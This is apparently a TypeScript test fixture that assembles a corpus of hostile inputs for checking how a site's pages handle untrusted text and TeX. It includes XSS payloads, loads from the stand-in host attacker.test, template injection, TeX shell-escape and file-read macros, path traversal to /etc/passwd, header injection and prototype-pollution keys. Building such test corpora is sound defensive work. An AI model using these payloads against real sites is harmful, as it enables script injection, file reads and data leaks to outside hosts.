/**
 * @file What a stranger may write into any field to run code in our pages, to call out, or to break them: every way of
 * getting code into HTML, in every place it may have to break out of, and TeX, paths, headers, templates and characters.
 * Code that runs calls `__hit()`; what calls out goes to `attacker.test`.
 */

const HOST = 'http://attacker.test'

/** Ways out of where a text may have been put. */
const BREAKS = ['', '">', "'>", '</script>', '-->', '</textarea>', '</title>', ']]>', '</style>', '`>', '</noscript>']

const ELEMENTS = [
  '<script>__hit()</script>',
  `<script src="${HOST}/a.js"></script>`,
  '<img src=x onerror=__hit()>',
  '<img/src/onerror=__hit()>',
  '<svg onload=__hit()>',
  '<svg><script>__hit()</script></svg>',
  '<svg><animate onbegin=__hit() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__hit()>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__hit()>',
  '<math href="javascript:__hit()">x</math>',
  '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
  '<iframe src="javascript:parent.__hit()"></iframe>',
  `<iframe src="${HOST}/frame"></iframe>`,
  '<object data="javascript:__hit()"></object>',
  `<embed src="${HOST}/e.swf">`,
  '<body onload=__hit()>',
  '<details open ontoggle=__hit()>x</details>',
  '<input autofocus onfocus=__hit()>',
  '<video><source onerror=__hit()></video>',
  '<audio src=x onerror=__hit()>',
  '<marquee onstart=__hit()>x</marquee>',
  '<a href="javascript:__hit()">x</a>',
  '<form action="javascript:__hit()"><button>x</button></form>',
  `<form action="${HOST}/f"><input name=q></form>`,
  `<meta http-equiv="refresh" content="0; url=${HOST}/m">`,
  `<base href="${HOST}/">`,
  `<link rel="stylesheet" href="${HOST}/l.css">`,
  `<style>@import "${HOST}/s.css";</style>`,
  `<style>*{background:url(${HOST}/b.png)}</style>`,
  `<img src="${HOST}/i.png">`,
  `<div style="background:url(${HOST}/d.png)">x</div>`,
  '<template><img src=x onerror=__hit()></template>',
  '<select><iframe></select><img src=x onerror=__hit()>',
  '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
  '<xss contenteditable autofocus onfocus=__hit() tabindex=1>x</xss>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=__hit()>y</div>',
]

const CODE = [
  '__hit()',
  'javascript:__hit()',
  ' javascript:__hit()',
  'java\tscript:__hit()',
  'JaVaScRiPt:__hit()',
  'data:text/html,<script>__hit()</script>',
  'vbscript:__hit()',
  "');__hit();//",
  '");__hit();//',
  `\`\${__hit()}\``,
  `\${__hit()}`,
  '{{__hit()}}',
  '{{constructor.constructor("__hit()")()}}',
  '<%= __hit() %>',
  '#{__hit()}',
  '[x](javascript:__hit())',
  `![x](${HOST}/md.png)`,
  '<http://attacker.test/auto>',
  `url(${HOST}/u.png)`,
  '&lt;script&gt;__hit()&lt;/script&gt;',
  '&#60;script&#62;__hit()&#60;/script&#62;',
  '%3Cscript%3E__hit()%3C/script%3E',
  '\\u003cscript\\u003e__hit()\\u003c/script\\u003e',
  '\\x3cscript\\x3e__hit()\\x3c/script\\x3e',
  '＜script＞__hit()＜/script＞',
  '+ADw-script+AD4-__hit()+ADw-/script+AD4-',
]

const TEX = [
  '\\href{javascript:__hit()}{x}',
  '\\url{javascript:__hit()}',
  `\\href{${HOST}}{x}`,
  `\\includegraphics{${HOST}/t.png}`,
  '\\htmlData{x=<img src=x onerror=__hit()>}{x}',
  '\\htmlClass{top}{x}',
  '\\htmlId{app}{x}',
  `\\htmlStyle{background:url(${HOST}/s.png)}{x}`,
  '\\text{<img src=x onerror=__hit()>}',
  '\\unicode{<script>__hit()</script>}',
  '\\def\\x{\\x\\x}\\x',
  '\\def\\x#1{#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}}}}',
  '\\newcommand{\\a}{\\a}\\a',
  '\\rule{1000000em}{1000000em}',
  '\\kern1000000em x',
  '\\raisebox{99999pt}{x}',
  '\\Huge\\Huge\\Huge x',
  `${'{'.repeat(300)}x${'}'.repeat(300)}`,
  `${'\\frac{1}{'.repeat(80)}x${'}'.repeat(80)}`,
  `${'^{x'.repeat(100)}${'}'.repeat(100)}`,
  '\\begin{matrix}'.repeat(40),
  '\\sqrt{\\sqrt{\\sqrt{x}}}',
  '\\frac{1}',
  '\\undefined',
  '\\color{red;background:url(//attacker.test)}x',
  '\\colorbox{javascript:__hit()}{x}',
  '\\verb|<script>__hit()</script>|',
  '\\input{/etc/passwd}',
  '\\write18{id}',
  '\\csname __proto__\\endcsname',
]

const NAMES = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '/proc/self/environ',
  '//attacker.test/share',
  '\\\\attacker.test\\share',
  'x\r\nSet-Cookie: a=b',
  'x\r\n\r\n<script>__hit()</script>',
  'x\u2028__hit()\u2029',
  '__proto__',
  'constructor',
  'constructor.prototype',
  'hasOwnProperty',
  'toString',
  '__defineGetter__',
  '#/run/../../label',
  '?tab=<script>__hit()</script>',
  '%',
  '%zz',
  '%00',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e999',
]

const CHARACTERS = [
  '\u202egnp.evil',
  '\u2066hidden\u2069',
  'z\u0335\u0322a\u0337l\u0338g\u0336o'.repeat(20),
  '\u200b\u200c\u200d\ufeff',
  '\u001b[31mred\u001b[0m',
  'a'.repeat(5000),
  'ﷺ'.repeat(300),
  '👨‍👩‍👧‍👦'.repeat(100),
  '\ufffd\ufffe\uffff',
  'x\ny\n'.repeat(200),
  '\t\t\t\t',
  '$'.repeat(500),
  '$$'.repeat(200),
  '\\('.repeat(200),
  '\\['.repeat(200),
  `$${'x'.repeat(3000)}`,
]

/** TeX between all delimiters, and without. */
const delimited = TEX.flatMap((tex) => [tex, `$${tex}$`, `$$${tex}$$`, `\\(${tex}\\)`, `\\[${tex}\\]`])

/** Each is different from all others. */
export const ATTACKS: readonly string[] = [
  ...new Set([
    ...BREAKS.flatMap((out) => ELEMENTS.map((element) => out + element)),
    ...CODE,
    ...delimited,
    ...NAMES,
    ...CHARACTERS,
  ]),
]

/** Those in which nothing is set as a formula, and no character is lost on the way: a page shows them letter by letter. */
export function isShownAsWritten(attack: string): boolean {
  return !/[$\\\p{C}]/u.test(attack)
}
